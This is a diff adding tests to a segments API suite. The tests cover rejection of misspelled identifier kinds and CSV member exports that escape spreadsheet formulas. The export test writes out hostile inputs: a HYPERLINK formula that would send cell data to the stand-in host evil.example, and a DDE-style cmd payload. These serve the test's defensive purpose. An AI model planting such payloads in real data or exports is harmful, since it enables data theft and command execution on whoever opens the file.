@@ -1,6 +1,7 @@
 /** Segments and lifecycle through the API. */
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
+import { parse } from 'csv-parse/sync';
 import { DIALECTS } from './support/dialects.js';
 import { admin, basic, startTestServer, type TestServer } from './support/touchpoint.js';
 
@@ -73,6 +74,17 @@ for (const dialect of DIALECTS) {
       assert.deepEqual([created.json().kind, created.json().size, created.json().unmatched], ['static', 1, 1]);
     });
 
+    it('refuses static segment identifiers of a kind that does not exist, naming the kinds', async () => {
+      const typo = await api('POST', '/api/segments', { name: 'Typo list', identifiers: [{ kind: 'email', value: 'one@example.com' }, { kind: 'emial', value: 'x' }] });
+      assert.equal(typo.statusCode, 400, typo.body);
+      assert.equal(typo.json().error.code, 'TP_VALIDATION');
+      assert.match(typo.json().error.message, /body\/identifiers\/1\/kind "emial" is not an identifier kind; use one of userId, .*email/);
+      assert.equal((await api('GET', '/api/segments/Typo%20list')).json().error.code, 'TP_SEGMENT_NOT_FOUND', 'nothing was created');
+      const edit = await api('PUT', '/api/segments/Press%20list', { identifiers: [{ kind: 'Email', value: 'one@example.com' }] });
+      assert.equal(edit.json().error.code, 'TP_VALIDATION');
+      assert.equal((await api('GET', '/api/segments/Press%20list')).json().size, 1, 'the members were kept');
+    });
+
     it('shows the stage, its history and segments on the profile', async () => {
       const profile = (await api('GET', '/api/profiles/lookup?kind=userId&value=u1')).json();
       assert.equal(profile.stage.name, 'purchase');
@@ -98,6 +110,30 @@ for (const dialect of DIALECTS) {
       assert.match(invalid.json().error.message, /\/stages\/0\/name.*\/stages\/0\/condition\/stage/);
       assert.equal((await api('GET', '/api/lifecycle/distribution?at=yesterday')).json().error.code, 'TP_VALIDATION');
       assert.deepEqual((await api('GET', '/api/lifecycle/distribution?at=2020-01-01')).json().stages, {});
+    });
+
+    // Last: its profiles would change the counts above.
+    it('exports members as CSV that a spreadsheet will not run as formulas', async () => {
+      const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+      const batch = [
+        { type: 'identify', userId: hostile, traits: { email: '=cmd|"/c,calc"!a0@example.com' } },
+        { type: 'identify', userId: '@SUM(1+1)', traits: { email: '+1@example.com' } },
+        { type: 'identify', userId: '-2+3', traits: { email: 'plain@example.com' } },
+      ];
+      assert.equal((await tp.app.inject({ method: 'POST', url: '/v1/batch', headers: basic(key), payload: { batch } })).statusCode, 200);
+      await settle();
+      const identifiers = batch.map((m) => ({ kind: 'userId', value: m.userId }));
+      const created = await api('POST', '/api/segments', { name: 'Formulas', identifiers });
+      assert.equal(created.json().size, 3, created.body);
+      const csv = await api('GET', `/api/segments/${created.json().id}/members?format=csv`);
+      assert.equal(csv.statusCode, 200);
+      const rows: Record<string, string>[] = parse(csv.body, { columns: true });
+      assert.deepEqual(rows.map((r) => [r.user_id, r.email]).sort(), [
+        [`'-2+3`, 'plain@example.com'],
+        [`'=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=cmd|"/c,calc"!a0@example.com`],
+        [`'@SUM(1+1)`, `'+1@example.com`],
+      ]);
+      assert.ok(rows.every((r) => /^\d{4}-\d{2}-\d{2}T/.test(r.since!)));
     });
   });
 }
